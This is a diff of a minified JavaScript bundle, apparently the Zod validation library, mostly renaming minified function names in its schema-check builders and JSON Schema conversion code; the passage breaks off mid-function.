 number",check:"number_format",abort:!1,format:"int32",...util.normalizeParams(e)})}function zM(t,e){return new t({type:"\
-number",check:"number_format",abort:!1,format:"uint32",...util.normalizeParams(e)})}function N_(t,e){return new t({type:"\
+number",check:"number_format",abort:!1,format:"uint32",...util.normalizeParams(e)})}function $_(t,e){return new t({type:"\
 boolean",...Be(e)})}function UM(t,e){return new t({type:"boolean",coerce:!0,...util.normalizeParams(e)})}function JM(t,e){
 return new t({type:"bigint",...util.normalizeParams(e)})}function ZM(t,e){return new t({type:"bigint",coerce:!0,...util.
 normalizeParams(e)})}function KM(t,e){return new t({type:"bigint",check:"bigint_format",abort:!1,format:"int64",...util.
-normalizeParams(e)})}function WM(t,e){return new t({type:"bigint",check:"bigint_format",abort:!1,format:"uint64",...util.
-normalizeParams(e)})}function qM(t,e){return new t({type:"symbol",...util.normalizeParams(e)})}function VM(t,e){return new t(
+normalizeParams(e)})}function qM(t,e){return new t({type:"bigint",check:"bigint_format",abort:!1,format:"uint64",...util.
+normalizeParams(e)})}function WM(t,e){return new t({type:"symbol",...util.normalizeParams(e)})}function VM(t,e){return new t(
 {type:"undefined",...util.normalizeParams(e)})}function YM(t,e){return new t({type:"null",...util.normalizeParams(e)})}function XM(t){
-return new t({type:"any"})}function F_(t){return new t({type:"unknown"})}function L_(t,e){return new t({type:"never",...Be(
+return new t({type:"any"})}function R_(t){return new t({type:"unknown"})}function N_(t,e){return new t({type:"never",...Be(
 e)})}function QM(t,e){return new t({type:"void",...util.normalizeParams(e)})}function eG(t,e){return new t({type:"date",
 ...util.normalizeParams(e)})}function tG(t,e){return new t({type:"date",coerce:!0,...util.normalizeParams(e)})}function nG(t,e){
-return new t({type:"nan",...util.normalizeParams(e)})}function Is(t,e){return new Qu({check:"less_than",...Be(e),value:t,
-inclusive:!1})}function bn(t,e){return new Qu({check:"less_than",...Be(e),value:t,inclusive:!0})}function $s(t,e){return new el(
-{check:"greater_than",...Be(e),value:t,inclusive:!1})}function _n(t,e){return new el({check:"greater_than",...Be(e),value:t,
+return new t({type:"nan",...util.normalizeParams(e)})}function Is(t,e){return new Wu({check:"less_than",...Be(e),value:t,
+inclusive:!1})}function bn(t,e){return new Wu({check:"less_than",...Be(e),value:t,inclusive:!0})}function $s(t,e){return new Vu(
+{check:"greater_than",...Be(e),value:t,inclusive:!1})}function _n(t,e){return new Vu({check:"greater_than",...Be(e),value:t,
 inclusive:!0})}function sG(t){return $s(0,t)}function rG(t){return Is(0,t)}function iG(t){return bn(0,t)}function oG(t){
-return _n(0,t)}function bo(t,e){return new Iw({check:"multiple_of",...Be(e),value:t})}function aG(t,e){return new checks.
+return _n(0,t)}function bo(t,e){return new Sw({check:"multiple_of",...Be(e),value:t})}function aG(t,e){return new checks.
 $ZodCheckMaxSize({check:"max_size",...util.normalizeParams(e),maximum:t})}function cG(t,e){return new checks.$ZodCheckMinSize(
 {check:"min_size",...util.normalizeParams(e),minimum:t})}function uG(t,e){return new checks.$ZodCheckSizeEquals({check:"\
-size_equals",...util.normalizeParams(e),size:t})}function Al(t,e){return new Rw({check:"max_length",...Be(e),maximum:t})}
-function vr(t,e){return new Nw({check:"min_length",...Be(e),minimum:t})}function Sl(t,e){return new Fw({check:"length_eq\
-uals",...Be(e),length:t})}function P_(t,e){return new Lw({check:"string_format",format:"regex",...Be(e),pattern:t})}function j_(t){
-return new Pw({check:"string_format",format:"lowercase",...Be(t)})}function M_(t){return new jw({check:"string_format",format:"\
-uppercase",...Be(t)})}function G_(t,e){return new Mw({check:"string_format",format:"includes",...Be(e),includes:t})}function H_(t,e){
-return new Gw({check:"string_format",format:"starts_with",...Be(e),prefix:t})}function z_(t,e){return new Hw({check:"str\
+size_equals",...util.normalizeParams(e),size:t})}function vl(t,e){return new Iw({check:"max_length",...Be(e),maximum:t})}
+function vr(t,e){return new $w({check:"min_length",...Be(e),minimum:t})}function Dl(t,e){return new Rw({check:"length_eq\
+uals",...Be(e),length:t})}function F_(t,e){return new Nw({check:"string_format",format:"regex",...Be(e),pattern:t})}function L_(t){
+return new Fw({check:"string_format",format:"lowercase",...Be(t)})}function P_(t){return new Lw({check:"string_format",format:"\
+uppercase",...Be(t)})}function j_(t,e){return new Pw({check:"string_format",format:"includes",...Be(e),includes:t})}function M_(t,e){
+return new jw({check:"string_format",format:"starts_with",...Be(e),prefix:t})}function G_(t,e){return new Mw({check:"str\
 ing_format",format:"ends_with",...Be(e),suffix:t})}function lG(t,e,n){return new checks.$ZodCheckProperty({check:"proper\
-ty",property:t,schema:e,...util.normalizeParams(n)})}function U_(t,e){return new zw({check:"properties",shape:t,...Be(e)})}
+ty",property:t,schema:e,...util.normalizeParams(n)})}function H_(t,e){return new Gw({check:"properties",shape:t,...Be(e)})}
 function dG(t,e){return new checks.$ZodCheckMimeType({check:"mime_type",mime:t,...util.normalizeParams(e)})}function as(t){
-return new Uw({check:"overwrite",tx:t})}function J_(t){return as(e=>e.normalize(t))}function Z_(){return as(t=>t.trim())}
-function K_(){return as(t=>t.toLowerCase())}function W_(){return as(t=>t.toUpperCase())}function q_(){return as(t=>Dy(t))}
-function V_(t,e,n){return new t({type:"array",element:e,...Be(n)})}function BG(t,e,n){return new t({type:"union",options:e,
+return new Hw({check:"overwrite",tx:t})}function z_(t){return as(e=>e.normalize(t))}function U_(){return as(t=>t.trim())}
+function J_(){return as(t=>t.toLowerCase())}function Z_(){return as(t=>t.toUpperCase())}function K_(){return as(t=>ky(t))}
+function q_(t,e,n){return new t({type:"array",element:e,...Be(n)})}function BG(t,e,n){return new t({type:"union",options:e,
 ...util.normalizeParams(n)})}function fG(t,e,n){return new t({type:"union",options:e,inclusive:!1,...util.normalizeParams(
 n)})}function hG(t,e,n,s){return new t({type:"union",options:n,discriminator:e,...util.normalizeParams(s)})}function pG(t,e,n){
 return new t({type:"intersection",left:e,right:n})}function mG(t,e,n,s){const r=n instanceof schemas.$ZodType,i=r?s:n,o=r?
@@ -2466,13 +2468,13 @@ function SG(t,e,n){return new t({type:"catch",innerType:e,catchValue:typeof n=="
 return new t({type:"pipe",in:e,out:n})}function IG(t,e){return new t({type:"readonly",innerType:e})}function $G(t,e,n){return new t(
 {type:"template_literal",parts:e,...util.normalizeParams(n)})}function RG(t,e){return new t({type:"lazy",getter:e})}function NG(t,e){
 return new t({type:"promise",innerType:e})}function FG(t,e,n){const s=util.normalizeParams(n);return s.abort??(s.abort=!0),
-new t({type:"custom",check:"custom",fn:e,...s})}function Y_(t,e,n){return new t({type:"custom",check:"custom",fn:e,...Be(
-n)})}function X_(t,e){const n=Q_(s=>(s.addIssue=r=>{if(typeof r=="string")s.issues.push(As(r,s.value,n._zod.def));else{const i=r;
+new t({type:"custom",check:"custom",fn:e,...s})}function W_(t,e,n){return new t({type:"custom",check:"custom",fn:e,...Be(
+n)})}function V_(t,e){const n=Y_(s=>(s.addIssue=r=>{if(typeof r=="string")s.issues.push(As(r,s.value,n._zod.def));else{const i=r;
 i.fatal&&(i.continue=!1),i.code??(i.code="custom"),"input"in i||(i.input=s.value),i.inst??(i.inst=n),i.continue??(i.continue=
-!n._zod.def.abort),s.issues.push(As(i))}},t(s.value,s)),e);return n}function Q_(t,e){const n=new ht({check:"custom",...Be(
-e)});return n._zod.check=t,n}function eE(t){const e=new ht({check:"describe"});return e._zod.onattach=[n=>{const s=rn.get(
-n)??{};rn.add(n,{...s,description:t})}],e._zod.check=()=>{},e}function tE(t){const e=new ht({check:"meta"});return e._zod.
-onattach=[n=>{const s=rn.get(n)??{};rn.add(n,{...s,...t})}],e._zod.check=()=>{},e}function LG(t,e){const n=util.normalizeParams(
+!n._zod.def.abort),s.issues.push(As(i))}},t(s.value,s)),e);return n}function Y_(t,e){const n=new ht({check:"custom",...Be(
+e)});return n._zod.check=t,n}function X_(t){const e=new ht({check:"describe"});return e._zod.onattach=[n=>{const s=on.get(
+n)??{};on.add(n,{...s,description:t})}],e._zod.check=()=>{},e}function Q_(t){const e=new ht({check:"meta"});return e._zod.
+onattach=[n=>{const s=on.get(n)??{};on.add(n,{...s,...t})}],e._zod.check=()=>{},e}function LG(t,e){const n=util.normalizeParams(
 e);let s=n.truthy??["true","1","yes","on","y","enabled"],r=n.falsy??["false","0","no","off","n","disabled"];n.case!=="se\
 nsitive"&&(s=s.map(f=>typeof f=="string"?f.toLowerCase():f),r=r.map(f=>typeof f=="string"?f.toLowerCase():f));const i=new Set(
 s),o=new Set(r),a=t.Codec??schemas.$ZodCodec,c=t.Boolean??schemas.$ZodBoolean,u=t.String??schemas.$ZodString,l=new u({type:"\
@@ -2482,8 +2484,8 @@ stringbool",values:[...i,...o],input:h.value,inst:B,continue:!1}),{})}),reverseT
 "false"),error:n.error});return B._zod.bag.truthy=s,B._zod.bag.falsy=r,B._zod.bag.case=n.case??"insensitive",B}function PG(t,e,n,s={}){
 const r=util.normalizeParams(s),i={check:"string_format",type:"string",format:e,fn:typeof n=="function"?n:a=>n.test(a),...r};
 return n instanceof RegExp&&(i.pattern=n),new t(i)}function Rs(t,...e){for(const n of e)for(const s of Reflect.ownKeys(n))
-Object.prototype.propertyIsEnumerable.call(n,s)&&mn(t,s,n[s]);return t}function Tl(t){let e=t?.target??"draft-2020-12";return e===
-"draft-4"&&(e="draft-04"),e==="draft-7"&&(e="draft-07"),{processors:t.processors??{},metadataRegistry:t?.metadata??rn,target:e,
+Object.prototype.propertyIsEnumerable.call(n,s)&&mn(t,s,n[s]);return t}function xl(t){let e=t?.target??"draft-2020-12";return e===
+"draft-4"&&(e="draft-04"),e==="draft-7"&&(e="draft-07"),{processors:t.processors??{},metadataRegistry:t?.metadata??on,target:e,
 unrepresentable:t?.unrepresentable??"throw",override:t?.override??(()=>{}),io:t?.io??"output",counter:0,seen:new Map,sharedDefsExtractedFor:void 0,
 sharedEmitDoneFor:void 0,cycles:t?.cycles??"ref",reused:t?.reused??"inline",intersections:[],deferred:[],external:t?.external??
 void 0}}function pt(t,e,n,s,r){const i=typeof e.unrepresentable=="function"?e.unrepresentable({zodSchema:t,path:s.path,message:r}):
@@ -2495,15 +2497,15 @@ t],path:n.path};if(t._zod.processJSONSchema)t._zod.processJSONSchema(e,o.schema,
 type];if(!f)throw new Error(`[toJSONSchema]: Non-representable type encountered: ${r.type}`);f(t,e,B,l)}const d=t._zod.parent;
 d&&(o.ref||(o.ref=d),Qe(d,e,l),e.seen.get(d).isParent=!0)}const c=e.metadataRegistry.get(t);return c&&Rs(o.schema,c),e.io===
 "input"&&wt(t)&&(delete o.schema.examples,delete o.schema.default),e.io==="input"&&"_prefault"in o.schema&&((s=o.schema).
-default??(s.default=o.schema._prefault)),delete o.schema._prefault,e.seen.get(t).schema}function Il(t){return t.replace(
-/~/g,"~0").replace(/\//g,"~1")}function $l(t,e){const n=t.seen.get(e);if(!n)throw new Error("Unprocessed schema. This is\
+default??(s.default=o.schema._prefault)),delete o.schema._prefault,e.seen.get(t).schema}function Ol(t){return t.replace(
+/~/g,"~0").replace(/\//g,"~1")}function Al(t,e){const n=t.seen.get(e);if(!n)throw new Error("Unprocessed schema. This is\
  a bug in Zod.");if(t.external&&t.sharedDefsExtractedFor===t.external)return;const s=new Map;for(const o of t.seen.entries()){
 const a=t.metadataRegistry.get(o[0])?.id;if(a){const c=s.get(a);if(c&&c!==o[0])throw new Error(`Duplicate schema id "${a}\
 " detected during JSON Schema conversion. Two different schemas cannot share the same id when converted together.`);s.set(
 a,o[0])}}const r=o=>{const a=t.target==="draft-2020-12"?"$defs":"definitions";if(t.external){const d=t.external.registry.
 get(o[0])?.id,B=t.external.uri??(h=>h);if(d)return{ref:B(d)};const f=o[1].defId??o[1].schema.id??`schema${t.counter++}`;
-return o[1].defId=f,{defId:f,ref:`${B("__shared")}#/${a}/${Il(f)}`}}const c="#",u=`${c}/${a}/`;if(o[1]===n&&!o[1].schema.
-id)return{ref:c};const l=o[1].schema.id??`__schema${t.counter++}`;return{defId:l,ref:u+Il(l)}},i=o=>{if(o[1].schema.$ref)
+return o[1].defId=f,{defId:f,ref:`${B("__shared")}#/${a}/${Ol(f)}`}}const c="#",u=`${c}/${a}/`;if(o[1]===n&&!o[1].schema.
+id)return{ref:c};const l=o[1].schema.id??`__schema${t.counter++}`;return{defId:l,ref:u+Ol(l)}},i=o=>{if(o[1].schema.$ref)
 return;const a=o[1],{ref:c,defId:u}=r(o);a.def={...a.schema},u&&(a.defId=u);const l=a.schema;for(const d in l)delete l[d];
 l.$ref=c};if(t.cycles==="throw")for(const o of t.seen.entries()){const a=o[1];if(a.cycle)throw new Error(`Cycle detected\
 : #/${a.cycle?.join("/")}/<root>
@@ -2511,22 +2513,22 @@ l.$ref=c};if(t.cycles==="throw")for(const o of t.seen.entries()){const a=o[1];if
 Set the \`cycles\` parameter to \`"ref"\` to resolve cyclical schemas with defs.`)}for(const o of t.seen.entries()){const a=o[1];
 if(e===o[0]){i(o);continue}if(t.external){const u=t.external.registry.get(o[0])?.id;if(e!==o[0]&&u){i(o);continue}}if(t.
 metadataRegistry.get(o[0])?.id){i(o);continue}if(a.cycle){i(o);continue}a.count>1&&t.reused==="ref"&&i(o)}t.external&&(t.
-sharedDefsExtractedFor=t.external)}function Rl(t){const e=t.anyOf;if(!Array.isArray(e)||e.length===0||t.type!==void 0)return;
-const n=[];for(const s of e){if(!s||typeof s!="object")return;Rl(s);const r=Object.keys(s);if(r.length!==1||r[0]!=="type")
+sharedDefsExtractedFor=t.external)}function Sl(t){const e=t.anyOf;if(!Array.isArray(e)||e.length===0||t.type!==void 0)return;
+const n=[];for(const s of e){if(!s||typeof s!="object")return;Sl(s);const r=Object.keys(s);if(r.length!==1||r[0]!=="type")
 return;const i=s.type;for(const o of Array.isArray(i)?i:[i]){if(typeof o!="string")return;n.includes(o)||n.push(o)}}delete t.
-anyOf,t.type=n.length===1?n[0]:n}const Nl=new Set(["type","properties","required","additionalProperties"]),Fl=["oneOf","\
-anyOf"];function Ll(t){const e=t.additionalProperties;return e===void 0||e===!1||typeof e!="object"||e===null?null:Object.
+anyOf,t.type=n.length===1?n[0]:n}const Tl=new Set(["type","properties","required","additionalProperties"]),Il=["oneOf","\
+anyOf"];function $l(t){const e=t.additionalProperties;return e===void 0||e===!1||typeof e!="object"||e===null?null:Object.
 keys(e).length?e:null}function _o(t){const e=[];for(const i of t){if(typeof i!="object"||i.type!=="object")return null;for(const o in i)
-if(!Nl.has(o))return null;e.push(i)}const n={},s=new Set;for(const i of e){for(const o in i.properties){if(Object.prototype.
-hasOwnProperty.call(n,o))continue;const a=[];for(const u of e){const l=u.properties?.[o]??Ll(u);l!=null&&(a.some(d=>JSON.
+if(!Tl.has(o))return null;e.push(i)}const n={},s=new Set;for(const i of e){for(const o in i.properties){if(Object.prototype.
+hasOwnProperty.call(n,o))continue;const a=[];for(const u of e){const l=u.properties?.[o]??$l(u);l!=null&&(a.some(d=>JSON.
 stringify(d)===JSON.stringify(l))||a.push(l))}const c=a.length===1?a[0]:_o(a)??{allOf:a};mn(n,o,c)}for(const o of i.required??
 [])s.add(o)}const r={type:"object",properties:n};if(s.size&&(r.required=[...s]),e.every(i=>i.additionalProperties===!1))
-r.additionalProperties=!1;else{const i=[];for(const o of e){const a=Ll(o);a&&!i.some(c=>JSON.stringify(c)===JSON.stringify(
-a))&&i.push(a)}i.length===1?r.additionalProperties=i[0]:i.length>1&&(r.additionalProperties={allOf:i})}return r}function nE(t){
-const e=t.allOf;if(!Array.isArray(e)||e.length<2)return;for(const r of Nl)if(r in t)return;const n=e.filter(r=>Fl.some(i=>Array.
-isArray(r[i])));let s=null;if(!n.length)s=_o(e);else{const r=n[0],i=Fl.find(c=>Array.isArray(r[c]));if(Object.keys(r).length!==
+r.additionalProperties=!1;else{const i=[];for(const o of e){const a=$l(o);a&&!i.some(c=>JSON.stringify(c)===JSON.stringify(
+a))&&i.push(a)}i.length===1?r.additionalProperties=i[0]:i.length>1&&(r.additionalProperties={allOf:i})}return r}function eE(t){
+const e=t.allOf;if(!Array.isArray(e)||e.length<2)return;for(const r of Tl)if(r in t)return;const n=e.filter(r=>Il.some(i=>Array.
+isArray(r[i])));let s=null;if(!n.length)s=_o(e);else{const r=n[0],i=Il.find(c=>Array.isArray(r[c]));if(Object.keys(r).length!==
 1)return;const o=e.filter(c=>c!==r),a=r[i].map(c=>_o([...o,c]));if(a.some(c=>!c))return;s={[i]:a}}s&&(delete t.allOf,Rs(
-t,s))}function Pl(t,e){const n=t.seen.get(e);if(!n)throw new Error("Unprocessed schema. This is a bug in Zod.");const s=a=>{
+t,s))}function Rl(t,e){const n=t.seen.get(e);if(!n)throw new Error("Unprocessed schema. This is a bug in Zod.");const s=a=>{
 const c=t.seen.get(a);if(c.ref===null)return;const u=c.def??c.schema,l={...u},d=c.ref;if(c.ref=null,d){s(d);const f=t.seen.
 get(d),h=f.schema;if(h.$ref&&(t.target==="draft-07"||t.target==="draft-04"||t.target==="openapi-3.0")?(u.allOf=u.allOf??
 [],u.allOf.push(h)):Rs(u,h),Rs(u,l),a._zod.parent===d)for(const g in u)g==="$ref"||g==="allOf"||g in l||delete u[g];if(h.
@@ -2534,10 +2536,10 @@ $ref&&f.def)for(const g in u)g==="$ref"||g==="allOf"||g in f.def&&JSON.stringify
 const B=a._zod.parent;if(B&&B!==d){s(B);const f=t.seen.get(B);if(f?.schema.$ref&&(u.$ref=f.schema.$ref,f.def))for(const h in u)
 h==="$ref"||h==="allOf"||h in f.def&&JSON.stringify(u[h])===JSON.stringify(f.def[h])&&delete u[h]}t.override({zodSchema:a,
 jsonSchema:u,path:c.path??[]})};if(!t.external||t.sharedEmitDoneFor!==t.external){for(const a of[...t.seen.entries()].reverse())
-s(a[0]);if(t.target!=="openapi-3.0")for(const a of t.seen.entries())Rl(a[1].def??a[1].schema);for(const a of t.deferred)
+s(a[0]);if(t.target!=="openapi-3.0")for(const a of t.seen.entries())Sl(a[1].def??a[1].schema);for(const a of t.deferred)
 a();if(t.intersections.length){const a=new Map;for(const c of t.seen.values())for(const u of[c.schema,c.def]){const l=u?.
 allOf;if(!Array.isArray(l))continue;const d=a.get(l);d?d.push(u):a.set(l,[u])}for(const c of t.intersections)for(const u of a.
-get(c)??[])nE(u)}}const r={};if(t.target==="draft-2020-12"?r.$schema="https://json-schema.org/draft/2020-12/schema":t.target===
+get(c)??[])eE(u)}}const r={};if(t.target==="draft-2020-12"?r.$schema="https://json-schema.org/draft/2020-12/schema":t.target===
 "draft-07"?r.$schema="http://json-schema.org/draft-07/schema#":t.target==="draft-04"?r.$schema="http://json-schema.org/d\
 raft-04/schema#":t.target,t.external?.uri){const a=t.external.registry.get(e)?.id;if(!a)throw new Error("Schema is missi\
 ng an `id` property");r.$id=t.external.uri(a)}Rs(r,n.defId?n.schema:n.def??n.schema);const i=t.metadataRegistry.get(e)?.
@@ -2553,66 +2555,66 @@ n);if(s.type==="lazy")return wt(s.getter(),n);if(s.type==="promise"||s.type==="o
 type==="intersection")return wt(s.left,n)||wt(s.right,n);if(s.type==="record"||s.type==="map")return wt(s.keyType,n)||wt(
 s.valueType,n);if(s.type==="pipe")return t._zod.traits.has("$ZodCodec")?!0:wt(s.in,n)||wt(s.out,n);if(s.type==="object"){
 for(const r in s.shape)if(wt(s.shape[r],n))return!0;return!1}if(s.type==="union"){for(const r of s.options)if(wt(r,n))return!0;
-return!1}if(s.type==="tuple"){for(const r of s.items)if(wt(r,n))return!0;return!!(s.rest&&wt(s.rest,n))}return!1}const sE=(t,e={})=>n=>{
-const s=Tl({...n,processors:e});return Qe(t,s),$l(s,t),Pl(s,t)},Dr=(t,e,n={})=>s=>{const{libraryOptions:r,target:i}=s??{},
-o=Tl({...r??{},target:i,io:e,processors:n});return Qe(t,o),$l(o,t),Pl(o,t)},cs=(t,e,n)=>{(t[e]===void 0||n>t[e])&&(t[e]=
-n)},us=(t,e,n)=>{(t[e]===void 0||n<t[e])&&(t[e]=n)},jl=(t,e)=>{cs(t,"minimum",e),us(t,"maximum",e)},Ml=(t,e)=>{t.multipleOf??
-(t.multipleOf=[]),t.multipleOf.includes(e)||t.multipleOf.push(e)},Gl=(t,e)=>{t.patterns??(t.patterns=new Set),t.patterns.
-add(e)},Hl=(t,e)=>{t.mime=t.mime?t.mime.filter(n=>e.includes(n)):[...e]},zl=(t,e)=>{t.format=e,e.includes("int")&&(t.isInt=
-!0)},Ul=(t,e)=>cs(t,"minimum",e.minimum),Jl=(t,e)=>us(t,"maximum",e.maximum),Zl=t=>(e,n)=>{zl(e,n.format);const[s,r]=t[n.
-format];cs(e,"minimum",s),us(e,"maximum",r)},rE={greater_than:(t,e)=>cs(t,e.inclusive?"minimum":"exclusiveMinimum",e.value),
-less_than:(t,e)=>us(t,e.inclusive?"maximum":"exclusiveMaximum",e.value),multiple_of:(t,e)=>Ml(t,e.value),number_format:Zl(
-Gu),bigint_format:Zl(Sy),min_length:Ul,max_length:Jl,length_equals:(t,e)=>jl(t,e.length),min_size:Ul,max_size:Jl,size_equals:(t,e)=>jl(
-t,e.size),string_format:(t,e)=>{zl(t,e.format),e.pattern&&Gl(t,e.pattern),(e.format==="base64"||e.format==="base64url")&&
-(t.contentEncoding=e.format),(e.local||e.precision===-1)&&(t.laxFormat=!0)},mime_type:(t,e)=>Hl(t,e.mime)};function ut(t){
-const e={},n=t._zod.def,s=t._zod.traits.has("$ZodCheck")?[t,...n.checks??[]]:n.checks??[];for(const i of s)rE[i._zod.def.
+return!1}if(s.type==="tuple"){for(const r of s.items)if(wt(r,n))return!0;return!!(s.rest&&wt(s.rest,n))}return!1}const tE=(t,e={})=>n=>{
+const s=xl({...n,processors:e});return Qe(t,s),Al(s,t),Rl(s,t)},Dr=(t,e,n={})=>s=>{const{libraryOptions:r,target:i}=s??{},
+o=xl({...r??{},target:i,io:e,processors:n});return Qe(t,o),Al(o,t),Rl(o,t)},cs=(t,e,n)=>{(t[e]===void 0||n>t[e])&&(t[e]=
+n)},us=(t,e,n)=>{(t[e]===void 0||n<t[e])&&(t[e]=n)},Nl=(t,e)=>{cs(t,"minimum",e),us(t,"maximum",e)},Fl=(t,e)=>{t.multipleOf??
+(t.multipleOf=[]),t.multipleOf.includes(e)||t.multipleOf.push(e)},Ll=(t,e)=>{t.patterns??(t.patterns=new Set),t.patterns.
+add(e)},Pl=(t,e)=>{t.mime=t.mime?t.mime.filter(n=>e.includes(n)):[...e]},jl=(t,e)=>{t.format=e,e.includes("int")&&(t.isInt=
+!0)},Ml=(t,e)=>cs(t,"minimum",e.minimum),Gl=(t,e)=>us(t,"maximum",e.maximum),Hl=t=>(e,n)=>{jl(e,n.format);const[s,r]=t[n.
+format];cs(e,"minimum",s),us(e,"maximum",r)},nE={greater_than:(t,e)=>cs(t,e.inclusive?"minimum":"exclusiveMinimum",e.value),
+less_than:(t,e)=>us(t,e.inclusive?"maximum":"exclusiveMaximum",e.value),multiple_of:(t,e)=>Fl(t,e.value),number_format:Hl(
+Lu),bigint_format:Hl(Oy),min_length:Ml,max_length:Gl,length_equals:(t,e)=>Nl(t,e.length),min_size:Ml,max_size:Gl,size_equals:(t,e)=>Nl(
+t,e.size),string_format:(t,e)=>{jl(t,e.format),e.pattern&&Ll(t,e.pattern),(e.format==="base64"||e.format==="base64url")&&
+(t.contentEncoding=e.format),(e.local||e.precision===-1)&&(t.laxFormat=!0)},mime_type:(t,e)=>Pl(t,e.mime)};function ut(t){
+const e={},n=t._zod.def,s=t._zod.traits.has("$ZodCheck")?[t,...n.checks??[]]:n.checks??[];for(const i of s)nE[i._zod.def.
 check]?.(e,i._zod.def);const r=t._zod.bag;r.minimum!==void 0&&cs(e,"minimum",r.minimum),r.exclusiveMinimum!==void 0&&cs(
 e,"exclusiveMinimum",r.exclusiveMinimum),r.maximum!==void 0&&us(e,"maximum",r.maximum),r.exclusiveMaximum!==void 0&&us(e,
-"exclusiveMaximum",r.exclusiveMaximum),r.multipleOf!==void 0&&Ml(e,r.multipleOf),r.format!==void 0&&(e.format??(e.format=
-r.format),r.format.includes("int")&&(e.isInt=!0)),r.mime&&Hl(e,r.mime);for(const i of r.patterns??[])Gl(e,i);return e}const iE={
-guid:"uuid",url:"uri",datetime:"date-time",json_string:"json-string",regex:""},oE=new Map([[ul,Cw],[yo,yw]]),Kl=t=>oE.get(
-t)??t,Wl=(t,e,n,s)=>{const r=n;r.type="string";const{minimum:i,maximum:o,format:a,patterns:c,contentEncoding:u,laxFormat:l}=ut(
-t);if(typeof i=="number"&&(r.minLength=i),typeof o=="number"&&(r.maxLength=o),a&&(r.format=iE[a]??a,r.format===""&&delete r.
-format,(a==="time"||l)&&delete r.format),u&&(r.contentEncoding=u),c&&c.size>0){const d=[...c].map(Kl);d.length===1?r.pattern=
+"exclusiveMaximum",r.exclusiveMaximum),r.multipleOf!==void 0&&Fl(e,r.multipleOf),r.format!==void 0&&(e.format??(e.format=
+r.format),r.format.includes("int")&&(e.isInt=!0)),r.mime&&Pl(e,r.mime);for(const i of r.patterns??[])Ll(e,i);return e}const sE={
+guid:"uuid",url:"uri",datetime:"date-time",json_string:"json-string",regex:""},rE=new Map([[il,mw],[yo,gw]]),zl=t=>rE.get(
+t)??t,Ul=(t,e,n,s)=>{const r=n;r.type="string";const{minimum:i,maximum:o,format:a,patterns:c,contentEncoding:u,laxFormat:l}=ut(
+t);if(typeof i=="number"&&(r.minLength=i),typeof o=="number"&&(r.maxLength=o),a&&(r.format=sE[a]??a,r.format===""&&delete r.
+format,(a==="time"||l)&&delete r.format),u&&(r.contentEncoding=u),c&&c.size>0){const d=[...c].map(zl);d.length===1?r.pattern=
 d[0].source:d.length>1&&(r.allOf=[...d.map(B=>({...e.target==="draft-07"||e.target==="draft-04"||e.target==="openapi-3.0"?
-{type:"string"}:{},pattern:B.source}))])}},ql=(t,e,n,s)=>{const r=n,{minimum:i,maximum:o,multipleOf:a,exclusiveMaximum:c,
+{type:"string"}:{},pattern:B.source}))])}},Jl=(t,e,n,s)=>{const r=n,{minimum:i,maximum:o,multipleOf:a,exclusiveMaximum:c,
 exclusiveMinimum:u,isInt:l}=ut(t);r.type=l?"integer":"number";const d=typeof u=="number"&&u>=(i??Number.NEGATIVE_INFINITY),
 B=typeof c=="number"&&c<=(o??Number.POSITIVE_INFINITY),f=e.target==="draft-04"||e.target==="openapi-3.0";if(d?f?(r.minimum=
 u,r.exclusiveMinimum=!0):r.exclusiveMinimum=u:typeof i=="number"&&(r.minimum=i),B?f?(r.maximum=c,r.exclusiveMaximum=!0):
 r.exclusiveMaximum=c:typeof o=="number"&&(r.maximum=o),a){const h=new Set;for(const C of a)Number.isFinite(C)&&C!==0?h.add(
 Math.abs(C)):pt(t,e,r,s,`A multipleOf divisor of ${C} cannot be represented in JSON Schema`);const[m,...g]=h;m!==void 0&&
-(r.multipleOf=m),g.length&&(r.allOf=[...r.allOf??[],...g.map(C=>({multipleOf:C}))])}},Vl=(t,e,n,s)=>{n.type="boolean"},Yl=(t,e,n,s)=>{
-pt(t,e,n,s,"BigInt cannot be represented in JSON Schema")},aE=(t,e,n,s)=>{pt(t,e,n,s,"Symbols cannot be represented in J\
-SON Schema")},cE=(t,e,n,s)=>{e.target==="openapi-3.0"?(n.type="string",n.nullable=!0,n.enum=[null]):n.type="null"},uE=(t,e,n,s)=>{
-pt(t,e,n,s,"Undefined cannot be represented in JSON Schema")},lE=(t,e,n,s)=>{pt(t,e,n,s,"Void cannot be represented in J\
-SON Schema")},Xl=(t,e,n,s)=>{n.not={}},dE=(t,e,n,s)=>{},Ql=(t,e,n,s)=>{},ed=(t,e,n,s)=>{pt(t,e,n,s,"Date cannot be repre\
-sented in JSON Schema")},td=(t,e,n,s)=>{const r=t._zod.def,i=no(r.entries);if(i.length===0){n.not={};return}i.every(o=>typeof o==
-"number")&&(n.type="number"),i.every(o=>typeof o=="string")&&(n.type="string"),n.enum=i},nd=(t,e,n,s)=>{const r=t._zod.def;
+(r.multipleOf=m),g.length&&(r.allOf=[...r.allOf??[],...g.map(C=>({multipleOf:C}))])}},Zl=(t,e,n,s)=>{n.type="boolean"},Kl=(t,e,n,s)=>{
+pt(t,e,n,s,"BigInt cannot be represented in JSON Schema")},iE=(t,e,n,s)=>{pt(t,e,n,s,"Symbols cannot be represented in J\
+SON Schema")},oE=(t,e,n,s)=>{e.target==="openapi-3.0"?(n.type="string",n.nullable=!0,n.enum=[null]):n.type="null"},aE=(t,e,n,s)=>{
+pt(t,e,n,s,"Undefined cannot be represented in JSON Schema")},cE=(t,e,n,s)=>{pt(t,e,n,s,"Void cannot be represented in J\
+SON Schema")},ql=(t,e,n,s)=>{n.not={}},uE=(t,e,n,s)=>{},Wl=(t,e,n,s)=>{},Vl=(t,e,n,s)=>{pt(t,e,n,s,"Date cannot be repre\
+sented in JSON Schema")},Yl=(t,e,n,s)=>{const r=t._zod.def,i=no(r.entries);if(i.length===0){n.not={};return}i.every(o=>typeof o==
+"number")&&(n.type="number"),i.every(o=>typeof o=="string")&&(n.type="string"),n.enum=i},Xl=(t,e,n,s)=>{const r=t._zod.def;
 if(r.values.length===0){n.not={};return}const i=[];for(const o of r.values)if(o===void 0){if(pt(t,e,n,s,"Literal `undefi\
 ned` cannot be represented in JSON Schema"))return}else if(typeof o=="bigint"){if(pt(t,e,n,s,"BigInt literals cannot be \
 represented in JSON Schema"))return;i.push(Number(o))}else i.push(o);if(i.length!==0)if(i.length===1){const o=i[0];n.type=
 o===null?"null":typeof o,e.target==="draft-04"||e.target==="openapi-3.0"?n.enum=[o]:n.const=o}else i.every(o=>typeof o==
 "number")&&(n.type="number"),i.every(o=>typeof o=="string")&&(n.type="string"),i.every(o=>typeof o=="boolean")&&(n.type=
